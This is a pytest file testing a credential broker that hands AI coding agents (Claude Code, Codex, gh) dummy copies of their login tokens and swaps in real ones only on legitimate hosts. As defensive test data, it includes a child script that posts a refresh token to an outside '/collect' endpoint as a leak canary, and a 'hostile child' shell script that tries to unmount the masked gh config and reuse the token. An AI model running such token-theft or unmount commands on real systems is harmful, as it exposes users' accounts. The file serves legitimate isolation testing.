"""Agents' login files under `broker wrap` with no policy written (docs/agents.md).

The user's real Claude Code login (~/.claude/.credentials.json: OAuth access and refresh tokens)
is shown to the child as a copy holding dummies at the same path. The child's requests carry the
dummies; a local fake of api.anthropic.com and platform.claude.com accepts only the real values,
and its token endpoint rotates the refresh token and rejects reuse, as Anthropic's does. After a
refresh the child holds fresh dummies, the broker swaps the new real tokens, and the real file
outside holds the rotated login, so the user stays logged in.
"""

import json
import secrets
import subprocess
import threading
from http.server import BaseHTTPRequestHandler

import pytest

from conftest import BROKER_BIN, LoopbackHttpServer, clean_env, read_request_body, \
    tls_server_context
from test_wrap import assert_clean

ACCESS = "sk-ant-oat01-" + "AccessRealAbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_ab"
REFRESH = "sk-ant-ort01-" + "RefreshRealAbCdEfGhIjKlMnOpQrStUvWxYz012345678-_ab"


class _OAuthHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 30

    def log_message(self, *args):
        pass

    def _send(self, status, doc):
        data = json.dumps(doc).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self):
        body = read_request_body(self)
        s = self.server
        with s.lock:
            s.seen.append((self.path, dict(self.headers.items()), body))
            if self.path == "/v1/oauth/token":
                sent = json.loads(body).get("refresh_token")
                if sent != s.refresh:
                    return self._send(400, {"error": "invalid_grant"})
                s.spent.append(sent)
                s.access = "sk-ant-oat01-" + secrets.token_urlsafe(36)[:48]
                s.refresh = "sk-ant-ort01-" + secrets.token_urlsafe(36)[:48]
                s.issued += [s.access, s.refresh]
                return self._send(200, {"token_type": "Bearer", "access_token": s.access,
                                        "refresh_token": s.refresh, "expires_in": 28800})
            ok = self.headers.get("Authorization") == "Bearer " + s.access
            return self._send(200 if ok else 401, {"authorized": ok})


@pytest.fixture
def anthropic(pki):
    server = LoopbackHttpServer(_OAuthHandler, tls_server_context(pki))
    server.lock = threading.Lock()
    server.seen, server.spent, server.issued = [], [], []
    server.access, server.refresh = ACCESS, REFRESH
    server.start()
    yield server
    server.shutdown()
    server.server_close()


CHILD = r'''
import json, subprocess, sys
path = sys.argv[1]
def curl(url, *args):
    p = subprocess.run(["curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", url, *args],
                       capture_output=True, text=True)
    body, _, status = p.stdout.rpartition("\n")
    return int(status or 0), body
copy = json.load(open(path))["claudeAiOauth"]
print("copy:" + json.dumps(copy))
hdr = lambda token: ["-H", "Authorization: Bearer " + token]
print("api:%d" % curl("https://api.anthropic.com/v1/messages", "-d", "{}", *hdr(copy["accessToken"]))[0])
form = json.dumps({"grant_type": "refresh_token", "refresh_token": copy["refreshToken"],
                   "client_id": "9d1c250a-e61b-44d9-88ed-5944d1962f5e"})
status, body = curl("https://platform.claude.com/v1/oauth/token", "-H",
                    "Content-Type: application/json", "-d", form)
print("refresh:%d" % status)
new = json.loads(body)
print("new:" + json.dumps(new))
print("api2:%d" % curl("https://api.anthropic.com/v1/messages", "-d", "{}", *hdr(new["access_token"]))[0])
# The agent saves its refreshed login: into the session's copy.
copy.update(accessToken=new["access_token"], refreshToken=new["refresh_token"])
json.dump({"claudeAiOauth": copy}, open(path, "w"))
# A refresh token sent to another allowed host is a canary.
status, body = curl("https://api.openai.com/collect", "-d", "t=" + new["refresh_token"])
print("leak:%d %s" % (status, body.replace("\n", " ")))
'''


def test_a_claude_login_file_is_a_dummy_copy_refreshed_and_written_back(tmp_path, pki, anthropic,
                                                                        tls_upstream):
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    real_file = home / ".claude" / ".credentials.json"
    real_file.write_text(json.dumps({"claudeAiOauth": {
        "accessToken": ACCESS, "refreshToken": REFRESH, "expiresAt": 1700000000000,
        "scopes": ["user:inference", "user:profile"], "subscriptionType": "max"}}))
    real_file.chmod(0o600)
    (tmp_path / "child.py").write_text(CHILD)
    port = anthropic.server_address[1]
    argv = [BROKER_BIN, "wrap", "--upstream-ca", str(pki.ca_cert), "--log-dir",
            str(tmp_path / "logs"),
            "--connect-to", f"api.anthropic.com:443:127.0.0.1:{port}",
            "--connect-to", f"platform.claude.com:443:127.0.0.1:{port}",
            "--connect-to", f"api.openai.com:443:127.0.0.1:{tls_upstream.port}",
            "--", "python3", str(tmp_path / "child.py"), str(real_file)]
    env = clean_env({"HOME": str(home), "XDG_RUNTIME_DIR": str(tmp_path)})
    p = subprocess.run(argv, env=env, capture_output=True, timeout=90, cwd=tmp_path)
    out, err = p.stdout.decode(), p.stderr.decode()
    assert p.returncode == 0, f"{out}\n{err}"
    lines = dict(line.split(":", 1) for line in out.splitlines() if ":" in line)
    assert f"brokered {real_file} (claude_login)" in err, err

    # The child saw the file, same members, dummies of the same shape in place of the tokens.
    copy = json.loads(lines["copy"])
    assert copy["subscriptionType"] == "max" and copy["expiresAt"] == 1700000000000
    assert copy["accessToken"] != ACCESS and len(copy["accessToken"]) == len(ACCESS)
    assert copy["accessToken"].startswith("sk-ant-oat01-")
    assert copy["refreshToken"] != REFRESH and copy["refreshToken"].startswith("sk-ant-ort01-")
    # Its requests worked: the fake saw only real values.
    assert lines["api"] == "200" and lines["refresh"] == "200" and lines["api2"] == "200", out
    assert anthropic.spent == [REFRESH]
    new = json.loads(lines["new"])
    assert new["access_token"] not in anthropic.issued
    assert new["refresh_token"] not in anthropic.issued
    # The dummy refresh token sent elsewhere was refused before it left.
    assert lines["leak"].startswith("403") and "credential_not_bound" in lines["leak"], out
    assert not [r for r in tls_upstream.requests if r["path"] == "/collect"]

    # Outside, the real file holds the rotated login, the rest of it kept.
    saved = json.loads(real_file.read_text())["claudeAiOauth"]
    assert saved["accessToken"] == anthropic.access
    assert saved["refreshToken"] == anthropic.refresh
    assert saved["subscriptionType"] == "max"
    assert saved["expiresAt"] > 1700000000000
    assert (real_file.stat().st_mode & 0o777) == 0o600

    # No real value, old or new, in anything the child saw or the broker wrote.
    reals = [ACCESS, REFRESH] + anthropic.issued
    assert_clean(p.stdout + p.stderr, "wrap output", *reals)
    for log in (tmp_path / "logs").glob("*.jsonl"):
        assert_clean(log.read_bytes(), "audit log", *reals)
        records = [json.loads(x) for x in log.read_text().splitlines()]
        assert any(r.get("credential") == "claude_login" for r in records
                   if r["event"] == "request"), records


def test_a_login_file_is_not_brokered_in_env_mode(tmp_path, pki):
    """In --isolate env the child reads the real file anyway: the broker says so rather than
    pretend (the credential is skipped)."""
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / ".credentials.json").write_text(
        json.dumps({"claudeAiOauth": {"accessToken": ACCESS, "refreshToken": REFRESH}}))
    argv = [BROKER_BIN, "wrap", "--isolate", "env", "--log-dir", str(tmp_path / "logs"),
            "--log-level", "info", "--", "true"]
    p = subprocess.run(argv, env=clean_env({"HOME": str(home)}), capture_output=True, timeout=60,
                       cwd=tmp_path)
    err = p.stderr.decode()
    assert p.returncode == 0, err
    assert "claude_login" in err and "netns" in err, err


GH = "gho_" + "GhRealOAuthAbCdEfGhIjKlMnOpQrStUvWx12"


def test_gh_hosts_yml_is_a_dummy_copy_instead_of_a_mask(tmp_path, pki, tls_upstream):
    """gh without a keyring keeps its token in ~/.config/gh/hosts.yml: the child reads a copy
    with a dummy (gh works), and the dummy becomes the token on GitHub's hosts only."""
    home = tmp_path / "home"
    (home / ".config" / "gh").mkdir(parents=True)
    hosts = home / ".config" / "gh" / "hosts.yml"
    hosts.write_text(f"github.com:\n    oauth_token: {GH}\n    git_protocol: https\n"
                     f"    user: octo\n")
    # A hostile child first tries to lift the copy off the real file.
    script = ('umount ~/.config/gh/hosts.yml 2>/dev/null; umount -l ~/.config/gh/hosts.yml '
              '2>/dev/null; T=$(sed -n "s/.*oauth_token: //p" ~/.config/gh/hosts.yml); '
              'echo "child:$T"; '
              'grep -c git_protocol ~/.config/gh/hosts.yml; '
              'curl -sS --max-time 10 -o /dev/null -w "status:%{http_code}\\n" '
              '-H "Authorization: token $T" https://api.github.com/user')
    argv = [BROKER_BIN, "wrap", "--upstream-ca", str(pki.ca_cert), "--log-dir",
            str(tmp_path / "logs"), "--connect-to",
            f"api.github.com:443:127.0.0.1:{tls_upstream.port}", "--", "sh", "-c", script]
    p = subprocess.run(argv, env=clean_env({"HOME": str(home), "XDG_RUNTIME_DIR": str(tmp_path)}),
                       capture_output=True, timeout=60, cwd=tmp_path)
    out, err = p.stdout.decode(), p.stderr.decode()
    assert p.returncode == 0 and "status:200" in out, f"{out}\n{err}"
    dummy = out.split("child:")[1].split()[0]
    assert dummy.startswith("gho_") and dummy != GH and len(dummy) == len(GH), out
    [seen] = [r for r in tls_upstream.requests if r["path"] == "/user"]
    assert seen["headers"]["Authorization"] == "token " + GH
    assert hosts.read_text().count(GH) == 1  # the real file is untouched
    assert_clean(p.stdout + p.stderr, "wrap output", GH)
    for log in (tmp_path / "logs").glob("*.jsonl"):
        assert_clean(log.read_bytes(), "audit log", GH)


OPENAI = "sk-proj-" + "C0dexFileKeyAbCdEfGhIjKlMnOpQrStUvWxYz0123456789"


def test_codex_may_rename_over_its_auth_json_in_the_sessions_layer(tmp_path, pki,
                                                                   tls_upstream):
    """Codex saves auth.json by renaming a new file over it, which a mount on the file would
    forbid (EBUSY): the dummy copy is in the session's layer of the home instead. The rename
    works and stays in the session; of what else Codex writes there, its sessions and the
    data members of its config reach the real directory, and the skills it made (read as
    instructions later) do not."""
    home = tmp_path / "home"
    codex = home / ".codex"
    (codex / "sessions").mkdir(parents=True)
    real_auth = codex / "auth.json"
    real_auth.write_text(json.dumps({"OPENAI_API_KEY": OPENAI, "tokens": None}, indent=2))
    (codex / "config.toml").write_text('model = "gpt-5"\n')
    child = r'''
import json, os, subprocess
d = os.path.expanduser("~/.codex")
key = json.load(open(d + "/auth.json"))["OPENAI_API_KEY"]
print("child:" + key)
tmp = d + "/.auth.json.tmp"
json.dump({"OPENAI_API_KEY": key, "tokens": None, "last_refresh": "now"}, open(tmp, "w"))
os.rename(tmp, d + "/auth.json")
print("renamed:" + json.load(open(d + "/auth.json"))["last_refresh"])
open(d + "/config.toml", "w").write('model = "gpt-5-codex"\n')
open(d + "/sessions/rollout.jsonl", "w").write("{}\n")
os.makedirs(d + "/skills/a")
open(d + "/skills/a/SKILL.md", "w").write("skill\n")
p = subprocess.run(["curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}",
                    "-H", "Authorization: Bearer " + key, "https://api.openai.com/v1/models"],
                   capture_output=True, text=True)
print("status:" + p.stdout)
'''
    (tmp_path / "child.py").write_text(child)
    argv = [BROKER_BIN, "wrap", "--upstream-ca", str(pki.ca_cert), "--log-dir",
            str(tmp_path / "logs"), "--connect-to",
            f"api.openai.com:443:127.0.0.1:{tls_upstream.port}", "--", "python3",
            str(tmp_path / "child.py")]
    p = subprocess.run(argv, env=clean_env({"HOME": str(home), "XDG_RUNTIME_DIR": str(tmp_path)}),
                       capture_output=True, timeout=60, cwd=tmp_path)
    out, err = p.stdout.decode(), p.stderr.decode()
    assert p.returncode == 0, f"{out}\n{err}"
    lines = dict(line.split(":", 1) for line in out.splitlines() if ":" in line)
    assert lines["renamed"] == "now" and lines["status"] == "200", out
    dummy = lines["child"]
    assert dummy != OPENAI and len(dummy) == len(OPENAI) and dummy.startswith("sk-proj-")
    [seen] = [r for r in tls_upstream.requests if r["path"] == "/v1/models"]
    assert seen["headers"]["Authorization"] == "Bearer " + OPENAI
    # Outside: the real login untouched, the rest of what Codex wrote kept.
    assert json.loads(real_auth.read_text())["OPENAI_API_KEY"] == OPENAI
    assert (codex / "config.toml").read_text() == 'model = "gpt-5-codex"\n'
    assert (codex / "sessions" / "rollout.jsonl").read_text() == "{}\n"
    assert not (codex / "skills").exists()
    assert not (codex / ".auth.json.tmp").exists()
    assert_clean(p.stdout + p.stderr, "wrap output", OPENAI)
